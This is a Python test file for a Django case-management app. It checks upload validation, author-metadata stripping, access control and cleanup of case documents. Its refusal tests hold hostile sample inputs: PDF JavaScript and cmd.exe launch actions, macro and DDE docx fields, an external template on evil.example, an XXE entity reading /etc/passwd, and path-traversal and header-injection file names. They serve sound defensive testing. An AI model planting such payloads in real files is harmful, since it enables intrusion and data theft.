"""Documents of a case: told by their bytes, kept from everybody unless shown, saved and never opened by a page."""

from __future__ import annotations

import io
import os
import time
import zipfile
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from uuid import uuid4

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from rembug.audit.models import Entry
from rembug.cases.actions import papers
from rembug.cases.actions.move import note
from rembug.cases.actions.papers import lay, sweep
from rembug.cases.actions.personal import holder
from rembug.cases.models import Case, Paper
from rembug.cases.queries import papers as found
from rembug.cases.rules.papers import LARGEST, Looked, Refused, look, title_of
from rembug.cases.rules.unnamed import without_writer
from rembug.cases.tests import made
from rembug.cases.tests.made import ME, officer, step
from rembug.cases.tests.made_papers import WRITER, docx, odt, parts, pdf, pdf_with_packed
from rembug.lib.errors import Invalid, NotAllowed, NotFound
from rembug.people.models import Body
from rembug.people.queries.persons import actor_of
from rembug.people.tests.town import give, make_person, sign_in


def xlsx() -> bytes:
    book, out = Workbook(), io.BytesIO()
    book.worksheets[0]["A1"] = "Pompa"
    book.properties.creator = WRITER
    book.save(out)
    return out.getvalue()


def locked() -> bytes:
    """Return a container whose parts ask for a password."""
    data = bytearray(docx())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(mark)
        while place >= 0:
            data[place + at] |= 1
            place = data.find(mark, place + 4)
    return bytes(data)


@pytest.mark.parametrize(
    ("data", "kind"), [(pdf(), "pdf"), (docx(), "docx"), (xlsx(), "xlsx"), (odt(), "odt")]
)
def test_office_documents_are_told_by_their_bytes(data: bytes, kind: str) -> None:
    assert look(data).kind == kind


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "empty"),
        (b"%PDF-1.4" + b"0" * LARGEST, "too-large"),
        (b"<html><script>alert(1)</script>", "unknown"),
        (b"GIF89a" + pdf(), "unknown"),  # a picture in front of a PDF
        (b"MZ\x90" + b"0" * 400, "unknown"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 400, "old"),
        (pdf()[:-200], "broken"),
        (pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "script"),
        (pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"), "script"),
        (pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "script"),
        (pdf(b"/Names << /EmbeddedFiles 9 0 R >>"), "script"),
        (pdf(b"/AcroForm << /XFA 9 0 R >>"), "script"),
        (pdf_with_packed(b"7 0 << /S /JavaScript /JS (app.alert(1)) >>"), "script"),
        (pdf_with_packed(b"0" * 200_000_000), "too-large"),
        (pdf(b"/Encrypt 9 0 R"), "locked"),
        (docx(("word/vbaProject.bin", b"x")), "script"),
        (docx(types=b"application/vnd.ms-word.document.macroEnabled.main+xml"), "script"),
        (docx(("word/embeddings/oleObject1.bin", b"x")), "script"),
        (
            docx(
                (
                    "word/_rels/settings.xml.rels",
                    b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/t" TargetMode="External"/>',
                )
            ),
            "script",
        ),
        (docx(("word/footer.xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>')), "script"),
        (docx(("word/footer.xml", b"<w:instrText>DDEAUTO cmd</w:instrText>")), "script"),
        (odt(("Basic/Standard/Module1.xml", b"<m/>")), "script"),
        (odt(("Scripts/python/a.py", b"x")), "script"),
        (parts(("a.txt", b"x")), "unknown"),
        (parts(("word/document.xml", b"x")), "unknown"),
        (docx(("word/media/zero.xml", b"0" * 101_000_000)), "too-large"),
        (locked(), "locked"),
        (docx()[:-40], "broken"),
    ],
)  # fmt: skip
def test_what_runs_loads_hides_or_bursts_is_refused_with_a_remedy(data: bytes, code: str) -> None:
    with pytest.raises(Refused) as error:
        look(data)
    assert error.value.code == code
    assert papers.REMEDY[code].endswith(".")


@given(st.binary(max_size=400), st.sampled_from([b"", b"%PDF-1.7\n", b"PK\x03\x04"]), st.integers(0, 600))
def test_whatever_comes_is_taken_or_refused_and_nothing_else(noise: bytes, head: bytes, cut: int) -> None:
    for data in (head + noise, docx()[:cut] + noise, pdf()[:cut] + noise + b"%%EOF"):
        with suppress(Refused):
            assert look(data).data == data


def test_a_scan_of_random_bytes_is_no_script() -> None:
    noise = b"".join(b"/JS %d /AA " % number for number in range(2000))
    picture = b"6 0 obj\n<< /Subtype /Image >>\nstream\n" + noise + b"\nendstream\nendobj\n"
    assert look(pdf().replace(b"trailer", picture + b"trailer")).kind == "pdf"


@pytest.mark.parametrize("make", [pdf, docx, odt, xlsx])
def test_the_copy_for_everybody_names_no_writer_and_still_opens(make: Callable[[], bytes]) -> None:
    before = look(make())
    after = without_writer(before)
    assert look(after).kind == before.kind
    seen = [after]
    if before.kind != "pdf":
        with zipfile.ZipFile(io.BytesIO(after)) as whole:
            assert whole.testzip() is None
            seen = [whole.read(name) for name in whole.namelist()]
    assert not any(WRITER.encode() in part for part in seen)
    if before.kind == "pdf":
        assert len(after) == len(before.data)
        assert b"(Surat)" in after
    if before.kind == "xlsx":
        assert load_workbook(io.BytesIO(after)).worksheets[0]["A1"].value == "Pompa"


def test_a_writer_that_cannot_be_taken_out_keeps_the_document_closed() -> None:
    hidden = pdf(info=b"/Author 9 0 R")
    packed = pdf().replace(b"/Info 4 0 R", b"/Info 40 0 R")
    for data in (hidden, packed):
        with pytest.raises(Refused, match="writer"):
            without_writer(Looked("pdf", data))
    signed = pdf(b"/Sig << /ByteRange [0 1 2 3] >>")
    assert without_writer(Looked("pdf", signed)) == signed


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("C:\\Users\\budi\\Surat_Tugas.pdf", "Surat Tugas"),
        ("../../etc/passwd", "passwd"),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie: x"),
        ("", ""),
    ],
)
def test_a_title_is_no_path_and_no_header(name: str, title: str) -> None:
    assert title_of(name) == title


@pytest.fixture
def desk(lights: Body) -> Client:
    """The browser of an officer of street lights."""
    person = make_person("petugas@example.org", totp=True)
    give(person, "officer", lights)
    return sign_in(Client(), person, code=True)


def upload(data: bytes, name: str = "Surat 0812-3456-7890.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, "text/html")


def send(desk: Client, case: Case, *, shown: bool, data: bytes = b"") -> Paper:
    """Answer with a document; return it."""
    case.refresh_from_db()
    form = {
        "verb": "answer",
        "version": case.version,
        "public": "Lihat surat tugasnya.",
        "action_id": str(uuid4()),
    }
    form |= {"paper_public": "yes"} if shown else {}
    answer = desk.post(f"/kerja/kasus/{case.code}/langkah/", form | {"paper": upload(data or pdf())})
    assert answer.status_code == 302, answer.content.decode()
    return Paper.objects.latest("id")


def test_an_answer_carries_a_document_that_is_closed_unless_shown(
    city: str, lights: Body, desk: Client, client: Client
) -> None:
    case, _ = made.opened(city)
    step(case, officer(lights), "triage")
    paper = send(desk, case, shown=False)
    assert paper.step is not None
    assert paper.step.verb == "answer"
    assert "0812" not in paper.title
    address = f"/kasus/berkas/{paper.name}/"
    assert address in desk.get(f"/kerja/kasus/{case.code}/").content.decode()
    answer = desk.get(address)
    assert answer.content == pdf()
    assert answer["Content-Disposition"] == f'attachment; filename="kasus-{case.code}-{paper.code}.pdf"'
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'; sandbox"
    assert answer["Content-Type"] == "application/pdf"
    assert answer["Cache-Control"] == "private, no-store"
    assert client.get(address).status_code == 404
    assert "Berkas" not in client.get(f"/kasus/{case.code}/").content.decode()
    stranger = make_person("lain@example.org", totp=True)
    give(stranger, "officer", Body.objects.get(public_id=f"{city}-dlh"))
    assert sign_in(Client(), stranger, code=True).get(address).status_code == 404


def test_a_document_is_shown_as_a_copy_without_names_and_closed_again(
    city: str, lights: Body, desk: Client, client: Client
) -> None:
    case, _ = made.opened(city)
    step(case, officer(lights), "triage")
    paper = send(desk, case, shown=True)
    shown = f"/kasus/berkas/{paper.public_name}/"
    assert shown in client.get(f"/kasus/{case.code}/").content.decode()
    assert WRITER.encode() not in client.get(shown).content
    assert client.get(f"/kasus/berkas/{paper.name}/").status_code == 404
    switch = f"/kerja/kasus/{case.code}/berkas/{paper.code}/"
    for _ in range(2):  # again is harmless
        assert desk.post(switch, {"verb": "hide"}).status_code == 302
    assert client.get(shown).status_code == 404
    assert client.post(switch, {"verb": "show"}).status_code in {302, 403}
    assert client.get(shown).status_code == 404
    assert desk.post(switch, {"verb": "show"}).status_code == 302
    paper.refresh_from_db()
    assert client.get(f"/kasus/berkas/{paper.public_name}/").status_code == 200
    verbs = list(
        Entry.objects.filter(verb__startswith="paper.").order_by("id").values_list("verb", flat=True)
    )
    assert verbs == ["paper.received", "paper.hidden", "paper.shown"]
    logged = "".join(Entry.objects.values_list("data", flat=True))
    assert not any(word in logged for word in (paper.title, paper.name, paper.public_name))


def test_a_bad_document_stops_the_step_and_says_what_to_do(city: str, lights: Body, desk: Client) -> None:
    case, _ = made.opened(city)
    step(case, officer(lights), "triage")
    case.refresh_from_db()
    form = {"verb": "answer", "version": case.version, "public": "Lihat suratnya.", "action_id": str(uuid4())}
    bad = upload(docx(("word/vbaProject.bin", b"x")), "surat.docx")
    answer = desk.post(f"/kerja/kasus/{case.code}/langkah/", form | {"paper": bad})
    assert answer.status_code == 422
    assert "makro" in answer.content.decode()
    assert "Lihat suratnya." in answer.content.decode()
    case.refresh_from_db()
    assert case.state == "triaged"


def test_a_note_carries_a_document_and_a_double_send_keeps_one(city: str, lights: Body) -> None:
    case, _ = made.opened(city)
    me = officer(lights)
    number = uuid4()
    for _ in range(2):
        laid = lay(actor=me, city=city, code=case.code, data=docx(), title="Berita acara.docx")
        made_note(me, case, laid, number)
    assert [(one.title, one.kind, one.is_public) for one in found.of(me, city, case.code)] == [
        ("Berita acara", "docx", False)
    ]
    assert found.public(city, case.code) == []


def made_note(me: object, case: Case, laid: papers.Laid, number: object) -> None:
    """Write the same note with a document."""
    from_desk = {"actor": me, "city": case.city, "code": case.code, "action_id": number}
    note(**from_desk, words="Berita acara terlampir.", paper=laid)  # type: ignore[arg-type]


def test_who_has_no_part_in_a_case_lays_nothing(
    city: str, lights: Body, monkeypatch: pytest.MonkeyPatch
) -> None:
    case, _ = made.opened(city)
    other = officer(Body.objects.get(public_id=f"{city}-dlh"))
    with pytest.raises(NotAllowed):
        lay(actor=other, city=city, code=case.code, data=pdf(), title="x")
    with pytest.raises(NotFound):
        lay(actor=other, city=city, code="NOSUCH", data=pdf(), title="x")
    monkeypatch.setattr(papers, "MOST", 0)
    with pytest.raises(Invalid, match="Paling banyak"):
        lay(actor=officer(lights), city=city, code=case.code, data=pdf(), title="x")


def test_a_file_whose_step_never_came_is_swept_after_a_day(city: str, lights: Body) -> None:
    case, _ = made.opened(city)
    me = officer(lights)
    kept = lay(actor=me, city=city, code=case.code, data=pdf(), title="a", is_public=True)
    made_note(me, case, kept, uuid4())
    lost = lay(actor=me, city=city, code=case.code, data=pdf(), title="b", is_public=True)
    folder = Path(settings.MEDIA_ROOT) / found.FOLDER
    assert len(list(folder.iterdir())) == 4
    assert sweep(actor=ME) == 0  # still young: its step may come
    old = time.time() - 2 * 86_400
    for file in folder.iterdir():
        os.utime(file, (old, old))
    assert sweep(actor=ME) == 2
    assert {file.name for file in folder.iterdir()} == {kept.name, kept.public_name}
    assert lost.name not in {file.name for file in folder.iterdir()}


def test_a_document_is_handed_out_to_its_sender_and_forgets_them(
    city: str, lights: Body, desk: Client
) -> None:
    case, _ = made.opened(city)
    step(case, officer(lights), "triage")
    paper = send(desk, case, shown=False)
    assert paper.sender is not None
    me = actor_of(paper.sender)
    assert holder.export(actor=me)["case_papers"]
    holder.erase(actor=me)
    paper.refresh_from_db()
    assert paper.sender is None
